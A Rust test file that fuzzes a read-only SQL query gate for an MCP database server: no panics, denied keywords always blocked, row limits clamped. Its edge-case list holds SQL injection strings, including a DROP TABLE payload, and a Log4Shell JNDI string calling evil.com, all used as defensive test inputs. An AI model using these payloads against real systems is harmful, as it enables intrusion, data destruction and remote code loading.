//! Randomized and edge-case inputs for the read-only query gate.
//!
//! The gate must never panic, and a bare denied keyword must never get
//! through regardless of case, position or surrounding noise.

use mcp_db_server::gate::{DENIED_KEYWORDS, QueryGate, RowLimits};
use mcp_db_server::models::DatabaseType;
use rand::Rng;
use rand::distributions::Alphanumeric;
use rand::seq::SliceRandom;

const DIALECTS: [DatabaseType; 3] = [
    DatabaseType::SQLite,
    DatabaseType::PostgreSQL,
    DatabaseType::MySQL,
];

/// Generate random string of given length
fn random_string(len: usize) -> String {
    rand::thread_rng()
        .sample_iter(&Alphanumeric)
        .take(len)
        .map(char::from)
        .collect()
}

/// Random identifier that cannot collide with a keyword.
fn random_ident() -> String {
    format!("c_{}", random_string(8).to_lowercase())
}

fn random_case(word: &str) -> String {
    let mut rng = rand::thread_rng();
    word.chars()
        .map(|c| {
            if rng.gen_bool(0.5) {
                c.to_ascii_lowercase()
            } else {
                c.to_ascii_uppercase()
            }
        })
        .collect()
}

fn edge_case_strings() -> Vec<String> {
    vec![
        String::new(),
        " ".to_string(),
        "\n\r\t".to_string(),
        "\0".to_string(),
        ";".to_string(),
        ";;;".to_string(),
        "--".to_string(),
        "/*".to_string(),
        "'".to_string(),
        "\"".to_string(),
        "`".to_string(),
        "$$".to_string(),
        "(".repeat(500),
        ")".repeat(500),
        "üöÄ".repeat(100),
        "'OR 1=1--".to_string(),
        "'; DROP TABLE users--".to_string(),
        "SELECT 'unterminated".to_string(),
        "SELECT /* unterminated".to_string(),
        "SELECT * FROM t WHERE name = 'a''b'".to_string(),
        "a".repeat(100_000),
        random_string(1000),
        "\u{0000}\u{FFFF}".to_string(),
        "1' UNION SELECT NULL, NULL--".to_string(),
        "${jndi:ldap://evil.com/a}".to_string(),
        "\x00\x01\x02".to_string(),
    ]
}

#[test]
fn fuzz_edge_cases_never_panic() {
    let gate = QueryGate::default();
    for input in edge_case_strings() {
        for db_type in DIALECTS {
            for limit in [None, Some(0), Some(1), Some(u32::MAX)] {
                let _ = gate.plan(&input, db_type, limit);
                let _ = gate.check(&input, db_type, limit);
            }
        }
    }
}

#[test]
fn fuzz_random_bytes_never_panic() {
    let gate = QueryGate::default();
    let mut rng = rand::thread_rng();
    for _ in 0..500 {
        let len = rng.gen_range(0..200);
        let bytes: Vec<u8> = (0..len).map(|_| rng.r#gen()).collect();
        let input = String::from_utf8_lossy(&bytes);
        let db_type = *DIALECTS.choose(&mut rng).unwrap();
        let _ = gate.check(&input, db_type, Some(rng.gen_range(0..100)));
    }
}

#[test]
fn fuzz_denied_keywords_always_blocked() {
    let gate = QueryGate::default();
    let mut rng = rand::thread_rng();
    for _ in 0..500 {
        let keyword = random_case(DENIED_KEYWORDS.choose(&mut rng).unwrap());
        let column = random_ident();
        let table = random_ident();
        let sql = match rng.gen_range(0..6) {
            0 => format!("{} TABLE {}", keyword, table),
            1 => format!("SELECT {} FROM {} {}", column, table, keyword),
            2 => format!("SELECT ({} {}) FROM {}", keyword, column, table),
            3 => format!("WITH x AS (SELECT 1) {} {}", keyword, table),
            4 => format!("SELECT {} FROM {};\n{} {}", column, table, keyword, table),
            _ => format!("  /* note */ EXPLAIN {} {}", keyword, table),
        };
        let db_type = *DIALECTS.choose(&mut rng).unwrap();
        let err = gate
            .check(&sql, db_type, None)
            .expect_err(&format!("accepted: {}", sql));
        assert_eq!(err.kind(), "policy_violation", "{}", sql);
    }
}

#[test]
fn fuzz_quoted_keywords_allowed() {
    let gate = QueryGate::default();
    let mut rng = rand::thread_rng();
    for keyword in DENIED_KEYWORDS {
        let table = random_ident();
        let sql = format!("SELECT 'please {}' AS note FROM {}", random_case(keyword), table);
        let db_type = *DIALECTS.choose(&mut rng).unwrap();
        assert!(gate.check(&sql, db_type, None).is_ok(), "{}", sql);
    }
}

#[test]
fn fuzz_select_limit_bounds() {
    let gate = QueryGate::new(RowLimits::new(50, 1000));
    let mut rng = rand::thread_rng();
    for _ in 0..200 {
        let requested = rng.gen_range(0..5000u32);
        let sql = format!("SELECT {} FROM {}", random_ident(), random_ident());
        let approved = gate.check(&sql, DatabaseType::SQLite, Some(requested)).unwrap();

        let expected = requested.clamp(1, 1000);
        assert_eq!(approved.row_limit(), expected);
        assert!(
            approved
                .sql()
                .ends_with(&format!("\nLIMIT {}", expected + 1))
        );
    }
}
